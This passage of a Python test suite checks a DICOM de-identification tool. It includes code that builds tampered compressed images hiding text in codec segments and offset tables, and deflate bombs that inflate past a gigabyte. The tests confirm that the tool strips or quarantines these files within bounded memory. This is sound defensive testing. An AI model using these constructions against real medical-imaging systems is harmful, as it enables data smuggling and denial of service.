    "rle": ["dcmcrle"],                     # 1.2.840.10008.1.2.5
    "j2k": ["gdcmconv", "--j2k"],           # 1.2.840.10008.1.2.4.90
}


def _items(pixel):
    """The item values of an encapsulated Pixel Data value (first: the
    Basic Offset Table)."""
    out, pos = [], 0
    while pos + 8 <= len(pixel):
        g, e, ln = struct.unpack("<HHI", pixel[pos:pos + 8])
        pos += 8
        if (g, e) == (0xFFFE, 0xE0DD):
            break
        out.append(pixel[pos:pos + ln])
        pos += ln
    return out


def _encaps(items):
    """Items for an encapsulated Pixel Data value (pydicom writes the
    Sequence Delimitation Item)."""
    b = b""
    for v in items:
        v += b"\0" * (len(v) % 2)
        b += struct.pack("<HHI", 0xFFFE, 0xE000, len(v)) + v
    return b


def _seg(code, body):
    return b"\xff" + bytes([code]) + struct.pack(">H", len(body) + 2) + body


def _hostile_jpeg(f, tok, ls=False):
    """Comment and application segments after SOI and between the scan and
    EOI, a JFIF thumbnail, and bytes after EOI, all holding tok.  (JPEG-LS:
    CharLS refuses a comment after the scan, dcmtk any APPn but JFIF, even
    in the source: those are left out.)"""
    assert f[:2] == b"\xff\xd8"
    eoi = f.rindex(b"\xff\xd9")
    jfif = b"JFIF\0\x01\x02\x00\x00\x01\x00\x01" + bytes(
        [len(tok) // 3, 1]) + tok[:3 * (len(tok) // 3)]
    head = _seg(0xFE, tok + b"-com") + _seg(0xE0, jfif)
    if not ls:
        head += (_seg(0xE1, b"Exif\0\0" + tok) +
                 _seg(0xE2, b"ICC_PROFILE\0" + tok))
    tail = b"" if ls else _seg(0xFE, tok + b"-tail")
    return f[:2] + head + f[2:eoi] + tail + b"\xff\xd9" + tok + b"-after"


def _hostile_j2k(f, tok):
    """A COM in the main header, one in the tile-part header (Psot grown to
    match), and bytes after EOC."""
    assert f[:4] == b"\xff\x4f\xff\x51"
    lsiz = struct.unpack(">H", f[4:6])[0]
    siz_end = 4 + lsiz
    com = b"\xff\x64" + struct.pack(">HH", len(tok) + 4, 1) + tok
    f = f[:siz_end] + com + f[siz_end:]
    sot = f.index(b"\xff\x90", siz_end + len(com))
    psot = struct.unpack(">I", f[sot + 6:sot + 10])[0]
    assert psot, "test data: a tile-part with its length"
    com2 = b"\xff\x64" + struct.pack(">HH", len(tok) + 8, 1) + tok + b"-tph"
    f = (f[:sot + 6] + struct.pack(">I", psot + len(com2)) +
         f[sot + 10:sot + 12] + com2 + f[sot + 12:])
    eoc = f.rindex(b"\xff\xd9")
    return f[:eoc + 2] + tok + b"-after"


def _hostile_rle(f, tok):
    """Unused offset-table entries, bytes between two segments and after
    the last, all holding tok."""
    n = struct.unpack("<I", f[:4])[0]
    offs = list(struct.unpack("<15I", f[4:64]))
    assert n >= 2, "test data: two byte planes"
    gap = tok + b"-gap"
    body = f[64:offs[1]] + gap + f[offs[1]:]
    offs = offs[:n]
    offs[1:] = [o + len(gap) for o in offs[1:]]
    unused = (tok * 8)[:4 * (15 - n)]
    hdr = struct.pack("<I", n) + struct.pack("<%dI" % n, *offs) + unused
    return hdr + body + tok + b"-after"


HOSTILE_CODEC = {"jpeg-lossless": _hostile_jpeg,
                 "jpeg-ls": lambda f, tok: _hostile_jpeg(f, tok, ls=True),
                 "rle": _hostile_rle, "j2k": _hostile_j2k}


def _compressed(tmp_path, n, codec):
    """A small MG image of woman n, compressed by an independent tool."""
    native = tmp_path / ("native-%d.dcm" % n)
    image = struct.pack("<64H", *[(i * 37 + n * 101) & 0x0FFF
                                  for i in range(64)])  # 8 x 8, 12 bits
    write(str(native), mg(n, replace={H.PIXEL: ("OW", image)}))
    out = tmp_path / ("%s-%d.dcm" % (codec, n))
    run(*ENCAP_TOOLS[codec], native, out, check=True)
    return out


@pytest.mark.skipif(shutil.which("dcmcjpls") is None or
                    shutil.which("gdcmconv") is None,
                    reason="needs dcmtk and gdcm tools")
def test_encapsulated_pixel_data_carries_only_the_image(deidfs, tmp_path):
    """Text hidden in compressed pixel data (JPEG lossless, JPEG-LS, RLE,
    JPEG 2000; files made by dcmtk and GDCM, then tampered with): comment
    and application segments, a JFIF thumbnail, bytes after the
    codestream, between RLE segments and in unused RLE offsets, a Basic
    Offset Table and an Extended Offset Table of text.  The files are
    published; the text is in no output byte, exported or mounted; every
    image decodes (GDCM, and dcmtk where it can) to exactly the pixels of
    the untampered file."""
    from conftest import decoded_pixels
    from conftest import Mount
    src = tmp_path / "src"
    src.mkdir()
    want, clean_of, tokens = {}, {}, []
    for k, codec in enumerate(sorted(ENCAP_TOOLS)):
        n = 60 + k
        tok = ("%sENC%d" % (H.MARKER_PREFIX, n)).encode()
        tokens.append(tok)
        clean = _compressed(tmp_path, n, codec)
        want[n] = decoded_pixels(clean)[1]
        clean_of[n] = clean
        ds = pydicom.dcmread(str(clean))
        items = _items(ds.PixelData)
        assert len(items) == 2, "test data: one frame, one fragment"
        frag = HOSTILE_CODEC[codec](items[1], tok)
        ds.PixelData = _encaps([tok[:8], frag])     # BOT of text
        ds["PixelData"].is_undefined_length = True
        ds.ExtendedOffsetTable = tok[:16]
        ds.ExtendedOffsetTableLengths = tok[-8:]
        ds.save_as(str(src / ("%s.dcm" % codec)))
        # the tampered source still holds the text, and still decodes
        with open(str(src / ("%s.dcm" % codec)), "rb") as f:
            assert f.read().count(tok) >= 3
        assert decoded_pixels(src / ("%s.dcm" % codec))[1] == want[n]
    dest = tmp_path / "out"
    r = export(deidfs, src, dest, tmp_path / "p.db")
    assert r.returncode == 0, r.stderr
    out = all_bytes(dest)
    for tok in tokens:
        assert tok[:12] not in out
    pub = sorted(os.path.join(dp, f) for dp, _, fns in os.walk(str(dest))
                 for f in fns if f.endswith(".dcm") and ".quarantine" not in dp)
    assert len(pub) == len(ENCAP_TOOLS), (pub, r.stderr)
    dcmtk = {"1.2.840.10008.1.2.4.70": "dcmdjpeg",
             "1.2.840.10008.1.2.4.80": "dcmdjpls",
             "1.2.840.10008.1.2.5": "dcmdrle"}
    def dcmtk_decoded(path, tool):
        run(tool, path, str(path) + ".raw", check=True)
        px = pydicom.dcmread(str(path) + ".raw").PixelData
        os.unlink(str(path) + ".raw")
        return px

    got = []
    for p in pub:
        ds = pydicom.dcmread(p)
        assert "ExtendedOffsetTable" not in ds
        ts, px = decoded_pixels(p)
        n = [k for k, v in want.items() if v == px]
        assert len(n) == 1, p       # GDCM: the untampered image
        got.append(n[0])
        if ts in dcmtk:             # dcmtk: the same as of the untampered
            assert dcmtk_decoded(p, dcmtk[ts]) == \
                dcmtk_decoded(clean_of[n[0]], dcmtk[ts])
    assert sorted(got) == sorted(want)
    # the mount serves the same bytes
    mnt = tmp_path / "mnt"
    m = Mount(deidfs, src, mnt, tmp_path / "p.db",
              opts=["--modalities", "all"]).start()
    try:
        for p in pub:
            rel = os.path.relpath(p, str(dest))
            with open(os.path.join(str(mnt), rel), "rb") as f:
                served = f.read()
            with open(p, "rb") as f:
                assert served == f.read(), rel
            # and reads of every size and offset agree with it
            with open(os.path.join(str(mnt), rel), "rb") as f:
                for off in range(0, len(served), 97):
                    f.seek(off)
                    assert f.read(131) == served[off:off + 131], (rel, off)
    finally:
        m.stop()


def _j2k_after_siz(f, seg):
    """seg inserted after the SIZ segment of a J2K codestream f."""
    end = 4 + struct.unpack(">H", f[4:6])[0]
    return f[:end] + seg + f[end:]


def _j2k_in_tile_part(f, seg):
    """seg inserted after the first SOT segment, Psot grown to match."""
    sot = f.index(b"\xff\x90", 4 + struct.unpack(">H", f[4:6])[0])
    psot = struct.unpack(">I", f[sot + 6:sot + 10])[0]
    return (f[:sot + 6] + struct.pack(">I", psot + len(seg)) +
            f[sot + 10:sot + 12] + seg + f[sot + 12:])


@pytest.mark.skipif(shutil.which("dcmcjpls") is None or
                    shutil.which("gdcmconv") is None,
                    reason="needs dcmtk and gdcm tools")
def test_encapsulated_text_in_segments_decoders_skip(deidfs, tmp_path):
    """Text where decoders skip it (the attacker's second round): in a
    segment decoders use but with bytes beyond its syntax (DRI, JPEG-LS
    LSE), in segments decoders can do without (JPEG 2000 TLM and PLT), in
    a JPEG 2000 codestream whose first tile-part claims to run to the end,
    in pixel data and a palette of undefined length inside a sequence item,
    and in thousands of comments.
    Each file is quarantined, or published without the text and decoding
    to the untampered image."""
    from conftest import decoded_pixels
    src = tmp_path / "src"
    src.mkdir()
    tok = (H.MARKER_PREFIX + "SEG").encode()
    jl = _items(pydicom.dcmread(str(_compressed(tmp_path, 80,
                                                 "jpeg-lossless")))
                .PixelData)[1]
    ls = _items(pydicom.dcmread(str(_compressed(tmp_path, 81, "jpeg-ls")))
                .PixelData)[1]
    j2 = _compressed(tmp_path, 82, "j2k")
    j2f = _items(pydicom.dcmread(str(j2)).PixelData)[1]
    eoi = jl.rindex(b"\xff\xd9")
    comments = b"".join(_seg(0xFE, b"x") for _ in range(3000))
    cases = {   # name: (codec file, fragment, expect)
        "dri": (80, "jpeg-lossless", jl[:2] + _seg(0xDD, b"\0\x10" + tok)
                + jl[2:], "quarantine"),
        "lse": (81, "jpeg-ls", ls[:2] + _seg(0xF8, b"\x01" + bytes(10) +
                                               tok) + ls[2:], "quarantine"),
        "tlm": (82, "j2k", _j2k_after_siz(
            j2f, b"\xff\x55" + struct.pack(">H", len(tok) + 4) + b"\0\0" +
            tok), "publish"),
        "plt": (82, "j2k", _j2k_in_tile_part(
            j2f, b"\xff\x58" + struct.pack(">H", len(tok) + 3) + b"\0" +
            tok), "publish"),
        "comments": (80, "jpeg-lossless", jl[:eoi] + comments + jl[eoi:],
                     "quarantine"),
    }
    want = {}
    for name, (n, codec, frag, _) in sorted(cases.items()):
        clean = tmp_path / ("%s-%d.dcm" % (codec, n))
        want[name] = decoded_pixels(clean)[1]
        ds = pydicom.dcmread(str(clean))
        ds.PatientID = "6%010d" % len(name)
        ds.SOPInstanceUID = H.uid(90 + len(name), 3)
        ds.PixelData = _encaps([b"", frag])
        ds["PixelData"].is_undefined_length = True
        ds.save_as(str(src / (name + ".dcm")))
    # J2K: Psot 0 on the first tile-part, a second one (with a comment of
    # text) hidden in what it claims is its data
    sot = j2f.index(b"\xff\x90", 4 + struct.unpack(">H", j2f[4:6])[0])
    eoc = j2f.rindex(b"\xff\xd9")
    second = (b"\xff\x90\x00\x0a\x00\x00\x00\x00\x00\x00\x01\x02" +
              b"\xff\x64" + struct.pack(">HH", len(tok) + 4, 1) + tok +
              b"\xff\x93\x00\x00")
    f = (j2f[:sot + 6] + b"\0\0\0\0" + j2f[sot + 10:eoc] + second +
         j2f[eoc:])
    ds = pydicom.dcmread(str(j2))
    ds.PatientID = "59999999999"
    ds.PixelData = _encaps([b"", f])
    ds["PixelData"].is_undefined_length = True
    ds.save_as(str(src / "psot0.dcm"))
    cases["psot0"] = (82, "j2k", f, "quarantine")
    # pixel data of text inside a sequence item, beside a good image
    ds = pydicom.dcmread(str(j2))
    ds.PatientID = "58888888888"
    ds.SOPInstanceUID = H.uid(99, 3)
    item = pydicom.Dataset()
    item.add_new(0x7FE00010, "OB", _encaps([b"", tok * 4]))
    item[0x7FE00010].is_undefined_length = True
    item.add_new(0x00281201, "OW", _encaps([b"", tok * 2]))
    item[0x00281201].is_undefined_length = True
    ds.SharedFunctionalGroupsSequence = pydicom.Sequence([item])
    ds.save_as(str(src / "nested.dcm"))
    want["nested"] = decoded_pixels(j2)[1]
    cases["nested"] = (82, "j2k", None, "publish")

    dest = tmp_path / "out"
    r = export(deidfs, src, dest, tmp_path / "p.db")
    assert r.returncode == 0, r.stderr
    assert tok not in all_bytes(dest)
    reasons = [r["reason"]
               for r in read_reasons(dest / ".quarantine" / "reasons.csv")]
    quarantined = [k for k, v in cases.items() if v[3] == "quarantine"]
    assert reasons.count("pixel-data-unverified") == len(quarantined), \
        reasons
    pub = [os.path.join(dp, f) for dp, _, fns in os.walk(str(dest))
           for f in fns if f.endswith(".dcm") and ".quarantine" not in dp]
    published = [k for k, v in cases.items() if v[3] == "publish"]
    assert len(pub) == len(published), (pub, reasons)
    got = sorted(decoded_pixels(p)[1] for p in pub)
    assert got == sorted(want[k] for k in published)


@pytest.mark.skipif(shutil.which("dcmcjpeg") is None,
                    reason="needs dcmtk")
def test_encapsulated_pixel_data_not_shown_to_be_an_image(deidfs, tmp_path):
    """Fragments that are not the codestream the transfer syntax names,
    fewer codestreams than frames, or a compression deidfs cannot walk
    (MPEG-2) are not published: quarantined as pixel-data-unverified."""
    clean = _compressed(tmp_path, 70, "jpeg-lossless")
    jpeg = _items(pydicom.dcmread(str(clean)).PixelData)[1]
    src = tmp_path / "src"
    src.mkdir()
    cases = {
        "text.dcm": (None, [b"", (H.marker(71, "TXT") * 4).encode()], {}),
        "truncated.dcm": (None, [b"", jpeg[:len(jpeg) // 2]], {}),
        "frames.dcm": (None, [b"", jpeg], {"NumberOfFrames": 2}),
        "mpeg2.dcm": ("1.2.840.10008.1.2.4.100", [b"", b"\0\0\1\xb3" * 8],
                      {}),
    }
    for k, (name, (ts, items, attrs)) in enumerate(sorted(cases.items())):
        ds = pydicom.dcmread(str(clean))
        ds.PatientID = "7%010d" % k
        ds.PixelData = _encaps(items)
        ds["PixelData"].is_undefined_length = True
        for a, v in attrs.items():
            setattr(ds, a, v)
        if ts:
            ds.file_meta.TransferSyntaxUID = ts
        ds.save_as(str(src / name))
    dest = tmp_path / "out"
    r = export(deidfs, src, dest, tmp_path / "p.db")
    assert r.returncode == 0, r.stderr
    reasons = [r["reason"]
               for r in read_reasons(dest / ".quarantine" / "reasons.csv")]
    assert reasons.count("pixel-data-unverified") == len(cases), reasons
    pub = [f for dp, _, fns in os.walk(str(dest)) for f in fns
           if f.endswith(".dcm") and ".quarantine" not in dp]
    assert not pub
    assert H.MARKER_PREFIX.encode() not in all_bytes(dest)


# ------------------------------- the mount while sources are renamed over

RENAME_SECONDS = float(os.environ.get("DEIDFS_RENAME_SECONDS", "8"))
# copies checked for the test to mean something; the ASan run (make asan),
# several times slower, sets fewer: it is there for memory errors
MIN_COPIES = int(os.environ.get("DEIDFS_MIN_COPIES", "100"))


@pytest.mark.skipif(not os.path.exists("/dev/fuse") or
                    shutil.which("fusermount3") is None,
                    reason="needs /dev/fuse and fusermount3")
def test_mount_copies_are_one_version_under_rename_replacement(
        deidfs, archive_factory, tmp_path):
    """Sources replaced again and again by rename with versions of the
    same size (only pixel bytes differ), while 16 readers copy whole files
    through the mount: every copy equals exactly one version, or fails
    with EIO, ENOENT or ESTALE; never pages of two versions."""
    from conftest import Mount
    arch = archive_factory(rows=256, cols=256)
    src = tmp_path / "src"
    shutil.copytree(str(arch.root), str(src))
    ident = src / "identified"
    db = tmp_path / "p.db"
    ref = tmp_path / "ref"
    r = run(deidfs, "export", "-q", "--db", db, "--csv", src /
            "variables.csv", ident, ref)
    assert r.returncode == 0, r.stderr
    c = sqlite3.connect(str(db))
    rows = [(p if isinstance(p, bytes) else p.encode(), vp) for p, vp in
            c.execute("SELECT path, view_path FROM files WHERE view_path "
                      "IS NOT NULL AND view_path LIKE '%.dcm' AND "
                      "view_path NOT LIKE '.quarantine%' ORDER BY id")]
    c.close()
    picked = rows[:8]
    versions = {}       # view path -> set of acceptable bytes
    staged = {}         # view path -> [(source path, staged version path)]
    for k, (sp, vp) in enumerate(picked):
        path = os.path.join(os.fsencode(str(ident)), sp)
        with open(path, "rb") as f:
            data = f.read()
        px = pydicom.dcmread(io.BytesIO(data)).PixelData
        at = data.rfind(px)
        with open(os.path.join(str(ref), vp), "rb") as f:
            out0 = f.read()
        head = out0[:len(out0) - len(px)]
        assert out0.endswith(px)
        versions[vp] = {out0}
        staged[vp] = []
        for v in range(1, 6):
            npx = bytes(b ^ v for b in px)
            nd = data[:at] + npx + data[at + len(px):]
            sv = os.path.join(str(tmp_path), "v%d-%d.dcm" % (k, v))
            with open(sv, "wb") as f:
                f.write(nd)
            staged[vp].append((path, sv))
            versions[vp].add(head + npx)
    m = Mount(deidfs, ident, tmp_path / "mnt", db,
              csv=src / "variables.csv", logdir=tmp_path)
    bad, errs, copies = [], [], [0]
    lock = threading.Lock()
    stop = threading.Event()

    def reader(seed):
        rng = random.Random(seed)
        while not stop.is_set():
            vp = rng.choice(list(versions))
            try:
                with open(os.path.join(m.mnt, vp), "rb") as f:
                    got = f.read()
            except OSError as e:
                if e.errno not in (errno.EIO, errno.ENOENT, errno.ESTALE):
                    with lock:
                        errs.append(e)
                continue
            with lock:
                copies[0] += 1
                if got not in versions[vp]:
                    bad.append((vp, len(got)))

    def mutator():
        rng = random.Random(7)
        start = time.monotonic()
        # RENAME_SECONDS, and on a slow build longer, up to six times
        # that, until MIN_COPIES copies have been checked
        while True:
            took = time.monotonic() - start
            with lock:
                enough = copies[0] > MIN_COPIES
            if took >= 6 * RENAME_SECONDS or (took >= RENAME_SECONDS and
                                              enough):
                break
            vp = rng.choice(list(staged))
            path, sv = rng.choice(staged[vp])
            tmp = path + b".new"
            shutil.copyfile(sv, tmp)
            os.rename(tmp, path)
            time.sleep(0.002)
        stop.set()

    with m:
        ths = [threading.Thread(target=reader, args=(i,))
               for i in range(16)]
        for t in ths:
            t.start()
        mutator()
        for t in ths:
            t.join()
        assert m.stop() == 0
    record_mount = m.stderr
    assert not errs, errs[:5]
    assert copies[0] > MIN_COPIES, copies[0]
    assert not bad, "%d of %d copies mixed versions: %s" % (
        len(bad), copies[0], bad[:5])
    assert H.MARKER_PREFIX not in record_mount


# ------------------------------------ deflated datasets: bounded memory

DEFLATED = "1.2.840.10008.1.2.1.99"
SANITIZED = bool(os.environ.get("ASAN_OPTIONS") or
                 os.environ.get("TSAN_OPTIONS"))
# Peak resident memory allowed to an export or a mount daemon of the trees
# below.  The build before the budget went past a GiB on each (it inflated a
# dataset whole, copied it three times, once per worker and per open); the
# streaming build stays within a few dozen MiB.  Sanitizers add shadow
# memory and keep freed blocks, so their builds check outcomes only.
PEAK_MIB = 128
QUAR = ".quarantine"
MIB = 1 << 20
ZSEG = {}


def _zero_segment():
    """Raw deflate of one MiB of zeros, fully flushed: it references
    nothing before it, so copies of it can follow any flushed stream."""
    if not ZSEG:
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        ZSEG["seg"] = c.compress(b"\0" * MIB) + c.flush(zlib.Z_FULL_FLUSH)
    return ZSEG["seg"]


def deflate_with_zeros(head, zeros, tail=b""):
    """Raw deflate of head + zeros * b"\\0" + tail, made in a blink even for
    a GiB of zeros (a deflate bomb is about a thousand times smaller than
    what it inflates to)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [c.compress(head), c.flush(zlib.Z_FULL_FLUSH)]
    out.append(_zero_segment() * (zeros // MIB))
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    out += [c.compress(b"\0" * (zeros % MIB) + tail), c.flush()]
    return b"".join(out)


def image_head(n, rows, cols, extra=()):
    """Dataset bytes of an MG image of rows x cols (16 bits) with marker n
    through the Pixel Data element header; extra elements (tag, vr, value)
    are added, extra (tag, vr, size) with value None become zero-filled
    values of that size, written by the caller."""
    m = H.marker(n)
    els = [e for e in H.base_dataset(m, n)
           if e[0] not in (0x00280010, 0x00280011, H.PIXEL)]
    els += [(0x00280010, "US", struct.pack("<H", rows)),
            (0x00280011, "US", struct.pack("<H", cols))]
    els.sort(key=lambda e: e[0])
    return (H.meta(DEFLATED, H.MG_PRESENTATION, H.uid(n, 3)),
            H.encode_ds(els) +
            H.elem(H.PIXEL, "OW", b"", length=rows * cols * 2))


def stamped_pixels(plen, block=16384):
    """Chunks of plen bytes of pixel data that deflate well (a repeated
    block) and still show a byte put in the wrong place (every block starts
    with its number)."""
    base = bytes((i * 2654435761 >> 13) & 0x3F for i in range(block))
    i, left = 0, plen
    while left > 0:
        k = min(256, (left + block - 1) // block)
        b = b"".join(struct.pack("<Q", i + j) + base[8:] for j in range(k))
        b = b[:left]
        yield b
        left -= len(b)
        i += k


def valid_deflated(n, rows, cols):
    """(file bytes, sha256 of the pixel data) of a valid deflated MG image."""
    meta, head = image_head(n, rows, cols)
    c = zlib.compressobj(6, zlib.DEFLATED, -15)
    h = hashlib.sha256()
    out = [meta, c.compress(head)]
    for chunk in stamped_pixels(rows * cols * 2):
        h.update(chunk)
        out.append(c.compress(chunk))
    out.append(c.flush())
    return b"".join(out), h.hexdigest()


def peak_rss_run(deidfs, rss_file, *args):
    """run() of deidfs under a small Python parent that records the peak
    resident set of its child (getrusage RUSAGE_CHILDREN, KiB)."""
    wrap = ("import resource, subprocess, sys\n"
            "rc = subprocess.call(sys.argv[2:])\n"
            "open(sys.argv[1], 'w').write(str(resource.getrusage("
            "resource.RUSAGE_CHILDREN).ru_maxrss))\n"
            "sys.exit(rc)\n")
    r = run(sys.executable, "-c", wrap, rss_file, deidfs, *args,
            timeout=300)
    with open(str(rss_file)) as f:
        return r, int(f.read()) // 1024


def _published(dest):
    return sorted(os.path.join(dp, f) for dp, _, fns in os.walk(str(dest))
                  for f in fns if f.endswith(".dcm") and QUAR not in dp)


def pixel_sha(path, plen):
    with open(path, "rb") as f:
        f.seek(-plen, os.SEEK_END)
        h = hashlib.sha256()
        for b in iter(lambda: f.read(MIB), b""):
            h.update(b)
    return h.hexdigest()


def test_deflate_bombs_are_quarantined_in_bounded_memory(deidfs, tmp_path):
    """Deflated datasets of about a MiB that inflate past the per-file
    bound (1 GiB), in the pixel data or after it: each is quarantined as
    unparseable, as before, and the export (-j2) never holds their inflated
    bytes: it stays under PEAK_MIB, where the build before this one took a
    GiB or more per bomb and worker."""
    src = tmp_path / "src"
    over = (1 << 30) + 2 * MIB
    files = {}
    meta, head = image_head(90001, 8, 8)
    files["bomb-after-pixels.dcm"] = meta + deflate_with_zeros(
        head + b"\1" * 128, over)
    rows = cols = 23200                     # 1.08e9 bytes of pixels
    meta, head = image_head(90002, rows, cols)
    files["bomb-pixels.dcm"] = meta + deflate_with_zeros(head,
                                                         rows * cols * 2)
    # a valid one beside them
    files["valid.dcm"], sha = valid_deflated(90004, 64, 64)
    for name, data in files.items():
        write(str(src / name), data)
        assert len(data) < 2 * MIB, (name, len(data))
    dest = tmp_path / "out"
    r, peak = peak_rss_run(deidfs, tmp_path / "rss", "export", "--db",
                           tmp_path / "p.db", "--modalities", "all",
                           "--with-quarantine", "-j", "2", src, dest)
    assert r.returncode == 0, r.stderr
    c = sqlite3.connect(str(tmp_path / "p.db"))
    status = {p if isinstance(p, str) else p.decode(): s
              for p, s in c.execute("SELECT path, status FROM files")}
    c.close()
    reasons = {r["file"]: r["reason"]
               for r in read_reasons(dest / QUAR / "reasons.csv")}
    assert sorted(reasons.values()) == ["unparseable"] * 2, reasons
    assert status["valid.dcm"] == 0, status
    pub = [os.path.join(dp, f) for dp, _, fns in os.walk(str(dest))
           for f in fns if f.endswith(".dcm") and QUAR not in dp]
    assert len(pub) == 1
    assert pixel_sha(pub[0], 64 * 64 * 2) == sha
    if not SANITIZED:
        assert peak < PEAK_MIB, "export peaked at %d MiB" % peak


def deflated_header(n, values, value_mib):
    """A deflated file whose header holds `values` private OB values of
    value_mib MiB of zeros each (then an 8 x 8 image)."""
    m = H.marker(n)
    els, px = H.split_pixel(H.base_dataset(m, n))
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    out = [H.meta(DEFLATED, H.MG_PRESENTATION, H.uid(n, 3)),
           c.compress(H.encode_ds(els)), c.flush(zlib.Z_FULL_FLUSH)]
    for i in range(values):
        c = zlib.compressobj(9, zlib.DEFLATED, -15)
        out += [c.compress(H.elem(0x7FD10010 + i, "OB", b"",
                                  length=value_mib * MIB)),
                c.flush(zlib.Z_FULL_FLUSH), _zero_segment() * value_mib]
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    out += [c.compress(H.encode_ds(px)), c.flush()]
    return b"".join(out)


BUDGET_MIB = 128        # BUDGET_DEFAULT, fs/budget.h
HEADER_MIB = 256        # 4 * DCM_MAX_VALUE, the header limit


def test_deflated_headers_share_the_parse_budget(deidfs, tmp_path):
    """Big headers are held while they are parsed (their values are the
    dataset), so what bounds them across workers is the parse budget:
    four deflated files with 200 MiB headers, exported with -j2, are
    published (their private values removed), and the export holds at most
    the budget plus one header (the oldest parse never waits) plus
    PEAK_MIB; the build before held each header three times over, per
    worker.  A fifth file whose header passes the header limit (256 MiB:
    the limit of any file, now also of an inflated one) is unparseable."""
    src = tmp_path / "src"
    for k in range(4):
        write(str(src / ("h%d.dcm" % k)), deflated_header(90200 + k, 4, 50))
    write(str(src / "over.dcm"), deflated_header(90210, 5, 60))
    dest = tmp_path / "out"
    r, peak = peak_rss_run(deidfs, tmp_path / "rss", "export", "--db",
                           tmp_path / "p.db", "--modalities", "all",
                           "--with-quarantine", "-j", "2", src, dest)
    assert r.returncode == 0, r.stderr
    if not SANITIZED:
        assert peak < BUDGET_MIB + HEADER_MIB + PEAK_MIB, \
            "export peaked at %d MiB" % peak
    assert len(_published(dest)) == 4
    reasons = [r["reason"] for r in read_reasons(dest / QUAR / "reasons.csv")]
    assert reasons == ["unparseable"], reasons


@pytest.fixture(scope="module")
def big_deflated(tmp_path_factory):
    """Four valid deflated images of 160 MB each (about 1.3 MB on disk),
    with the sha256 of each one's pixel data."""
    base = tmp_path_factory.mktemp("deflated")
    src = base / "src"
    rows, cols = 8000, 10000
    sums = {}
    for k in range(4):
        data, sha = valid_deflated(90100 + k, rows, cols)
        write(str(src / ("big-%d.dcm" % k)), data)
        sums[H.uid(90100 + k, 3)] = sha
    return base, src, rows * cols * 2, sums


def test_deflated_files_export_in_bounded_memory(deidfs, big_deflated):
    """Four valid deflated images of 160 MB exported with -j2: the pixel
    data is inflated as it is written, never held, so the export stays
    under PEAK_MIB (the build before held each image three times over,
    per worker: about 0.7 GiB here); the pixel data is exact.  With the
    burned-in text scan: its workers read the inflated pixel data a strip
    at a time too (RUSAGE_CHILDREN counts them: the largest of the export
    and its workers stays under the bound; the scan before decoded each
    image whole through GDCM, 160 MB and more per worker)."""
    base, src, plen, sums = big_deflated
    dest = base / "out"
    r, peak = peak_rss_run(deidfs, base / "rss", "export", "--db",
                           base / "p.db", "--modalities", "all", "-j", "2",
                           src, dest)
    assert r.returncode == 0, r.stderr
    pub = _published(dest)
    assert len(pub) == 4
    got = sorted(pixel_sha(p, plen) for p in pub)
    assert got == sorted(sums.values())
    for p in pub:
        assert os.path.getsize(p) > plen
    if not SANITIZED:
        assert peak < PEAK_MIB, "export peaked at %d MiB" % peak


def _vm_hwm_mib(pid):
    with open("/proc/%d/status" % pid) as f:
        for line in f:
            if line.startswith("VmHWM:"):
                return int(line.split()[1]) // 1024
    raise AssertionError("no VmHWM")


@pytest.mark.skipif(not os.path.exists("/dev/fuse") or
                    shutil.which("fusermount3") is None,
                    reason="needs /dev/fuse and fusermount3")
def test_deflated_files_read_through_the_mount_in_bounded_memory(
        deidfs, big_deflated):
    """The same four images read through a mount: one backwards a MiB at a
    time and at odd offsets (its pixel data is inflated on demand, from the
    nearest access point), then all four at once by four readers.  Every
    byte equals the export's, and the daemon stays under PEAK_MIB (the
    build before inflated each image whole on every open: 1.5 GiB here)."""
    from conftest import Mount
    base, src, plen, sums = big_deflated
    dest = base / "ref"
    db = base / "m.db"
    r = run(deidfs, "export", "-q", "--db", db, "--modalities", "all",
            src, dest)
    assert r.returncode == 0, r.stderr
    refs = {os.path.relpath(p, str(dest)): p for p in _published(dest)}
    assert len(refs) == 4
    # a fresh index: the daemon analyses every file itself
    c = sqlite3.connect(str(db))
    c.execute("DELETE FROM audit")
    c.execute("DELETE FROM files")
    c.commit()
    c.close()
    m = Mount(deidfs, src, base / "mnt", db, opts=["--modalities", "all"],
              logdir=base)
    m.start()
    try:
        first = sorted(refs)[0]
        with open(refs[first], "rb") as f:
            want = f.read()
        size = len(want)
        rng = random.Random(7)
        with open(os.path.join(m.mnt, first), "rb") as f:
            assert os.fstat(f.fileno()).st_size == size
            for end in range(size, 0, -MIB):
                f.seek(max(0, end - MIB))
                got = f.read(end - max(0, end - MIB))
                assert got == want[max(0, end - MIB):end], end
            for _ in range(50):
                off = rng.randrange(size)
                f.seek(off)
                got = f.read(rng.randrange(1, 3 * MIB))
                assert got == want[off:off + len(got)], off
        del want
        results = {}

        def reader(rel):
            h = hashlib.sha256()
            with open(os.path.join(m.mnt, rel), "rb") as f:
                for b in iter(lambda: f.read(MIB), b""):
                    h.update(b)
            results[rel] = h.hexdigest()

        threads = [threading.Thread(target=reader, args=(rel,))
                   for rel in refs]
        for t in threads:
            t.start()
        for t in threads:
            t.join(300)
        for rel, p in refs.items():
            h = hashlib.sha256()
            with open(p, "rb") as f:
                for b in iter(lambda: f.read(MIB), b""):
                    h.update(b)
            assert results.get(rel) == h.hexdigest(), rel
        peak = _vm_hwm_mib(m.proc.pid)
    finally:
        m.stop()
    assert m.rc == 0, m.stderr
    if not SANITIZED:
        assert peak < PEAK_MIB, "the daemon peaked at %d MiB" % peak
